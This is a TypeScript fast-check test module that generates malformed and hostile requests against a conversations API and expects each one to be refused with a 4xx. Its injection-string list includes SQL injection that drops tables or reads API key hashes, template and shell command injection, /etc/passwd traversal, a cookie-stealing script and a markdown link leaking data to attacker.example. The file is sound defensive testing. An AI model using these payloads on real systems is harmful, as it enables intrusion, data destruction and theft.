import fc from "fast-check";

/**
 * Generated malformed and hostile requests to the public API (issue 10, drill 6). Every request is
 * refusable by construction: each carries at least one defect the contract names (no or a bad
 * key, a body that is not a JSON object of the documented shape, too large, not UTF-8, an unknown
 * id, an unsupported method, text PostgreSQL cannot store), so the only correct answer is a 4xx
 * that changes nothing. Injection strings ride along in every position a caller controls.
 */
export interface HostileRequest {
  kind: string;
  method: string;
  /** Path relative to the server, already percent-encoded where it needs to be. */
  path: string;
  headers: Record<string, string>;
  body?: Uint8Array<ArrayBuffer>;
}

export interface Targets {
  apiKey: string;
  /** A real conversation of `apiKey`, waiting for the customer. */
  conversationId: string;
}

export const injectionStrings = [
  "' OR '1'='1",
  "'; DROP TABLE conversations; --",
  "1; SELECT pg_sleep(10)--",
  "' UNION SELECT key_hash, null FROM api_keys --",
  "$$; delete from messages; $$",
  "\\'; truncate runs cascade; --",
  "${7*7}",
  "{{7*7}}",
  "{{constructor.constructor('return process')().exit()}}",
  "<%= 7*7 %>",
  "#{7*7}",
  "${{<%[%'\"}}%\\.",
  "$(touch /tmp/switchyard-pwned)",
  "`id`",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "<script>alert(document.cookie)</script>",
  "![x](https://attacker.example/leak?d=",
  "__proto__",
  "constructor",
  "prototype",
  "%00",
  "\u202e\u0000",
  "{\"$where\": \"sleep(1000)\"}",
  "sy_demo_switchyard",
] as const;

const enc = new TextEncoder();
const json = (value: unknown) => enc.encode(JSON.stringify(value));

const hostileText = fc.oneof(
  fc.constantFrom(...injectionStrings),
  fc.string({ maxLength: 60 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.tuple(fc.constantFrom(...injectionStrings), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
);

/** Printable ASCII only: fetch refuses other header bytes before anything is sent. */
const headerText = fc.oneof(
  fc.constantFrom(...injectionStrings).filter((s) => /^[\x20-\x7e]+$/.test(s)),
  fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 80 }),
);

const notAString = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 5 }),
  fc.dictionary(hostileText, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);

const notAnObject = fc.oneof(
  fc.integer(),
  fc.string(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
);

/** Text PostgreSQL cannot store as it is: NUL, or a lone UTF-16 surrogate (an escape in JSON). */
const unstorableText = fc
  .tuple(hostileText, fc.constantFrom("\u0000", "\ud800", "\udfff", "a\u0000b", "\udc00x"), hostileText)
  .map(([a, bad, b]) => `${a}${bad}${b}`.slice(0, 200));

/** JSON text nested `depth` levels deep (as text: JSON.stringify itself overflows the stack). */
function nested(depth: number, leaf: string, asArray: boolean): string {
  return asArray ? `${"[".repeat(depth)}${leaf}${"]".repeat(depth)}` : `${'{"d":'.repeat(depth)}${leaf}${"}".repeat(depth)}`;
}

interface Body {
  kind: string;
  bytes: Uint8Array<ArrayBuffer>;
  contentType?: string;
}

/** Bodies the start and message endpoints must refuse with a 4xx. */
function badBodies(endpoint: "start" | "message"): fc.Arbitrary<Body> {
  const extra = endpoint === "start" ? { customerId: "c-1" } : {};
  return fc.oneof(
    notAString.map((message) => ({ kind: "message of the wrong type", bytes: json({ message, ...extra }) })),
    notAnObject.map((v) => ({ kind: "body not an object", bytes: json(v) })),
    fc
      .tuple(hostileText, hostileText.filter((k) => !["message", "customerId", "metadata"].includes(k)), fc.jsonValue({ maxDepth: 2 }))
      .map(([message, key, value]) => ({
        kind: "unknown field",
        bytes: enc.encode(`{"message":${JSON.stringify(message || "x")},${JSON.stringify(key)}:${JSON.stringify(value) ?? "null"}}`),
      })),
    fc.constantFrom("", "   ", "\n\t ").map((m) => ({ kind: "empty message", bytes: json({ message: m }) })),
    fc.integer({ min: 8_001, max: 60_000 }).map((n) => ({ kind: "message too long", bytes: json({ message: "x".repeat(n) }) })),
    fc.integer({ min: 70_000, max: 3_000_000 }).map((n) => ({ kind: "huge body", bytes: json({ message: "A".repeat(n) }) })),
    fc.tuple(fc.integer({ min: 100, max: 30_000 }), fc.boolean()).map(([depth, asArray]) => ({
      kind: "deep JSON as the message",
      bytes: enc.encode(`{"message":${nested(depth, '"x"', asArray)}}`),
    })),
    ...(endpoint === "start"
      ? [
          fc.tuple(fc.integer({ min: 50, max: 30_000 }), fc.boolean()).map(([depth, asArray]) => ({
            kind: "deep JSON metadata",
            bytes: enc.encode(`{"message":"hello","metadata":{"nested":${nested(depth, "1", asArray)}}}`),
          })),
          fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), fc.integer(), { minKeys: 51, maxKeys: 80 }).map((metadata) => ({
            kind: "metadata with too many keys",
            bytes: json({ message: "hello", metadata }),
          })),
          notAString.map((customerId) => ({ kind: "customerId of the wrong type", bytes: json({ message: "hello", customerId }) })),
          fc.tuple(hostileText, unstorableText).map(([message, bad]) => ({
            kind: "unstorable text in metadata",
            bytes: json({ message: message || "x", metadata: { [bad]: bad } }),
          })),
          unstorableText.map((bad) => ({ kind: "unstorable text in customerId", bytes: json({ message: "hello", customerId: bad }) })),
        ]
      : []),
    unstorableText.map((bad) => ({ kind: "unstorable text in the message", bytes: json({ message: bad }) })),
    fc
      .tuple(fc.constantFrom(...invalidUtf8), hostileText)
      .map(([bad, m]) => {
        const head = enc.encode(`{"message":${JSON.stringify(m).slice(0, -1)}`);
        const tail = enc.encode(`"}`);
        return { kind: "invalid UTF-8", bytes: Uint8Array.from([...head, ...bad, ...tail]) };
      }),
    fc
      .oneof(
        fc.constantFrom('{"message": "unterminated', "{message: 'single'}", '{"message":"x",}', "nul\u0000l", "[", "}{", "NaN", "{\"message\":\"x\"}garbage"),
        hostileText.filter((t) => {
          try {
            JSON.parse(t);
            return false;
          } catch {
            return true;
          }
        }),
      )
      .map((text) => ({ kind: "not JSON", bytes: enc.encode(text) })),
    fc
      .constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/html")
      .map((contentType) => ({ kind: "wrong content type", bytes: json({ message: "hello" }), contentType })),
  );
}

const invalidUtf8: Uint8Array<ArrayBuffer>[] = [
  Uint8Array.of(0xff),
  Uint8Array.of(0xc3, 0x28),
  Uint8Array.of(0xc0, 0xaf),
  Uint8Array.of(0x80),
  Uint8Array.of(0xed, 0xa0, 0x80),
  Uint8Array.of(0xf8, 0x88, 0x80, 0x80, 0x80),
  Uint8Array.of(0xe2, 0x82),
  Uint8Array.of(0xf4, 0x90, 0x80, 0x80),
];

const authHeader = (key: string) => ({ Authorization: `Bearer ${key}` });

function withBody(base: Omit<HostileRequest, "body" | "kind">, body: Body): HostileRequest {
  return {
    ...base,
    kind: body.kind,
    headers: { "Content-Type": body.contentType ?? "application/json", ...base.headers },
    body: body.bytes,
  };
}

/** Every kind of hostile request, weighted towards the bodies (the largest surface). */
export function hostileRequest(t: Targets): fc.Arbitrary<HostileRequest> {
  const validStart = json({ message: "hello from the bad-input drill" });
  const conversations = "/api/v1/conversations";
  const messages = `${conversations}/${t.conversationId}/messages`;
  return fc.oneof(
    { weight: 4, arbitrary: badBodies("start").map((b) => withBody({ method: "POST", path: conversations, headers: authHeader(t.apiKey) }, b)) },
    { weight: 3, arbitrary: badBodies("message").map((b) => withBody({ method: "POST", path: messages, headers: authHeader(t.apiKey) }, b)) },
    {
      weight: 2,
      arbitrary: fc
        .oneof(
          fc.constant<Record<string, string>>({}),
          headerText.map((k) => authHeader(k)),
          headerText.map((k) => ({ Authorization: k })),
          headerText.map((k) => ({ Authorization: `Basic ${k}` })),
          fc.constant(authHeader(`${t.apiKey}x`)),
          fc.constant(authHeader(t.apiKey.toUpperCase())),
          fc.integer({ min: 513, max: 4000 }).map((n) => authHeader("k".repeat(n))),
        )
        .chain((headers) =>
          fc.constantFrom(
            { kind: "bad credentials", method: "POST", path: conversations, headers: { ...headers, "Content-Type": "application/json" }, body: validStart },
            { kind: "bad credentials", method: "POST", path: messages, headers: { ...headers, "Content-Type": "application/json" }, body: validStart },
            { kind: "bad credentials", method: "GET", path: `${conversations}/${t.conversationId}`, headers },
          ),
        ),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(hostileText, fc.constantFrom("GET", "POST")).map(([id, method]) => {
        const encoded = encodeURIComponent(id === "" ? "%" : id);
        return method === "GET"
          ? { kind: "hostile conversation id", method, path: `${conversations}/${encoded}`, headers: authHeader(t.apiKey) }
          : {
              kind: "hostile conversation id",
              method,
              path: `${conversations}/${encoded}/messages`,
              headers: { ...authHeader(t.apiKey), "Content-Type": "application/json" },
              body: json({ message: "hello" }),
            };
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .oneof(fc.integer({ min: 256, max: 2000 }).map((n) => "k".repeat(n)), headerText.map((s) => s.padEnd(256, "'")))
        .map((key) => ({
          kind: "bad Idempotency-Key",
          method: "POST",
          path: conversations,
          headers: { ...authHeader(t.apiKey), "Content-Type": "application/json", "Idempotency-Key": key },
          body: validStart,
        })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom("PUT", "PATCH", "DELETE"), fc.constantFrom(conversations, `${conversations}/${t.conversationId}`, messages))
        .map(([method, path]) => ({
          kind: "unsupported method",
          method,
          path,
          headers: { ...authHeader(t.apiKey), "Content-Type": "application/json" },
          body: validStart,
        })),
    },
  );
}
